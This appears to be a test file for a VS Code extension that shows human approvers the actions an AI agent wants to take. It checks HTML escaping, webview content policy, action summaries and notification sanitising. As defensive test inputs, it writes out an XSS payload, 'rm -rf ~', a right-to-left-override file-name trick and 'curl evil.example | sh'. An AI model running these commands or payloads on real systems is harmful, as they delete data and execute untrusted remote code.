import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  approvalDetailsHtml,
  daemonStatusDetail,
  page,
  plainText,
  summarizeAction,
} from '../../extension/src/present.js';
import { EMPTY_SESSION, type ApprovalRequest } from '../../daemon/src/protocol/index.js';

const request = (command: string): ApprovalRequest => ({
  type: 'approval_request',
  approvalId: 'ap1',
  session: 's1',
  action: { tool: 'shell', operation: 'exec', parameters: { command, cwd: '/work/p' } },
  decision: {
    decision: 'step_up',
    rule: 'history-rewrite',
    reason: 'rewrites shared history',
    risk: 'high',
    layer: 'step_up',
    policyHash: 'abc',
    modifications: [{ path: 'parameters.command', before: 'rm -rf build', after: 'rm -rf ./build' }],
  },
  effects: {
    reads: [],
    writes: ['/work/p/.git'],
    deletes: [],
    hosts: ['github.com'],
    risks: [],
    unknown: [],
  },
  context: {
    ...EMPTY_SESSION,
    id: 's1',
    request: 'ship <b>it</b>',
    hasRequest: true,
    priorActions: [
      {
        tool: 'shell',
        operation: 'exec',
        summary: 'npm test',
        decision: 'allow',
        verdict: 'allow',
        outcome: 'success',
      },
    ],
  },
  identity: {
    human: { user: 'dev' },
    agent: { name: 'claude-code', adapter: 'hook' },
    delegation: ['planner'],
  },
  key: 'git push',
  scopes: ['once', 'session', 'always'],
  expiresAt: '2026-11-25T12:00:00.000Z',
});

test('an approval page shows what the approver must see, and nothing an agent writes can become markup', () => {
  const hostile = 'git push --force </pre><script>alert(1)</script><img src=x onerror=alert(2)>';
  const html = approvalDetailsHtml(request(hostile), undefined);
  assert.ok(!html.includes('<script>'), 'agent text is escaped');
  assert.ok(!html.includes('<img'), 'agent text is escaped');
  assert.ok(!html.includes('<b>it</b>'));
  for (const shown of [
    '/work/p',
    'HIGH risk',
    'history-rewrite',
    'npm test',
    'github.com',
    'ship &#60;b&#62;it',
    'planner',
  ]) {
    assert.ok(html.includes(shown), `shows ${shown}`);
  }
  // MODIFY's diff, and the identity chain from human through delegation to the agent.
  assert.match(html, /rm -rf build<\/td><td class="ins">rm -rf \.\/build/);
  assert.match(html, /human dev → for planner → agent claude-code via hook/);
  // Answered: the buttons are gone and the answer is said instead.
  const answered = approvalDetailsHtml(request('git push'), 'Denied by dev via vscode.');
  assert.ok(!answered.includes('<button'));
  assert.match(answered, /Denied by dev via vscode/);
});

test('webview pages allow no remote content and only their own script', () => {
  const html = page('t', '<p>x</p>', 'vscode-resource:', 'NONCE', 'run()');
  assert.match(html, /default-src 'none'/);
  assert.match(html, /script-src 'nonce-NONCE'/);
  assert.match(html, /<script nonce="NONCE">run\(\)<\/script>/);
});

test('one-line summaries name what the action does', () => {
  assert.equal(
    summarizeAction({ tool: 'fs', operation: 'write', parameters: { path: 'src/a.ts' } }),
    'write src/a.ts',
  );
  assert.equal(
    summarizeAction({
      tool: 'net',
      operation: 'request',
      parameters: { method: 'POST', url: 'https://x.dev/a' },
    }),
    'POST https://x.dev/a',
  );
  assert.equal(
    summarizeAction({
      tool: 'mcp',
      operation: 'call',
      parameters: { server: 'github', tool: 'create_issue' },
    }),
    'mcp github/create_issue',
  );
  assert.equal(summarizeAction(null), '(not a valid action)');
});

test('agent text in a notification cannot become a link, hide behind control characters, or run on forever', () => {
  const shown = plainText('ls [Show details](command:aarm.exportAudit?%7B%7D)\nrm -rf ~ \u202egnp.exe\u0007');
  assert.ok(!shown.includes(']('), 'markdown links are broken');
  assert.match(shown, /⏎ rm -rf ~/);
  assert.match(shown, /\\u\{202e\}/);
  assert.match(shown, /\\u\{7\}/);
  const long = plainText(`echo ${'a'.repeat(500)}; curl evil.example | sh`);
  assert.ok(long.length < 220);
  assert.match(long, /505|5\d\d characters in all: see details/);
  assert.equal(plainText('git   push          --force'), 'git ␣ push ␣ --force');
});

test('the daemon status message says plainly whether allowed commands run confined', () => {
  const base = {
    type: 'status' as const,
    id: '1',
    version: '0.1.0',
    protocol: 1,
    pid: 1,
    uptimeMs: 1,
    receipts: 3,
    approvers: 1,
    pendingApprovals: 0,
    deferred: 0,
    chain: { ok: true as const, records: 3 },
    policy: { hash: 'a'.repeat(64), files: [], errors: [] },
  };
  assert.match(
    daemonStatusDetail({
      ...base,
      confinement: { enabled: true, detail: 'bubblewrap (/usr/bin/bwrap): profile workspace' },
    }),
    /Allowed commands run confined \(bubblewrap/,
  );
  assert.match(
    daemonStatusDetail({
      ...base,
      confinement: { enabled: false, detail: 'unavailable: bubblewrap is not installed' },
    }),
    /run UNCONFINED, with your full rights: unavailable: bubblewrap is not installed/,
  );
  assert.doesNotMatch(daemonStatusDetail(base), /confined/i);
});
